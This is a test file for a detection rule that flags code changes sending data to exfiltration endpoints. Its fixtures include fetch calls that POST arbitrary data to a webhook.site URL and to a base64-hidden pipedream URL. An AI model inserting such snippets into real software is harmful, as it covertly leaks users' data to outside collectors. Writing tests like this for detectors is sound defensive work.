// exfil-endpoint on small before/after pairs: what a release adds is reported; what was already
// there (under other names) or is ordinary stays silent.
import { describe } from 'vitest';
import exfilEndpoint from '../../../../src/classify/code/rules/exfil-endpoint.js';
import { codeRuleTester } from '../../../helpers/code-rule-tester.js';

/** Code both sides share, so the added code is a release's addition, not a new file. */
const OLD = 'function a0(n){return n+1}function b0(n){return a0(n)*2}';

describe('exfil-endpoint', () => {
  codeRuleTester(exfilEndpoint, {
    valid: [{ before: OLD, after: OLD + 'function t(e){return fetch("https://example.com/webhook",{method:"POST",body:e})}' }],
    invalid: [
      { before: OLD, after: OLD + 'function t(e){return fetch("https://webhook.site/0c1e2f",{method:"POST",body:e})}', findings: [{ severity: 'high', message: /webhook\.site/ }] },
      { name: 'hidden in base64', before: OLD, after: OLD + 'function t(e){return fetch(atob("aHR0cHM6Ly9lbzFhYmNkLm0ucGlwZWRyZWFtLm5ldA=="),{method:"POST",body:e})}', findings: [{ severity: 'critical' }] },
    ],
  });
});
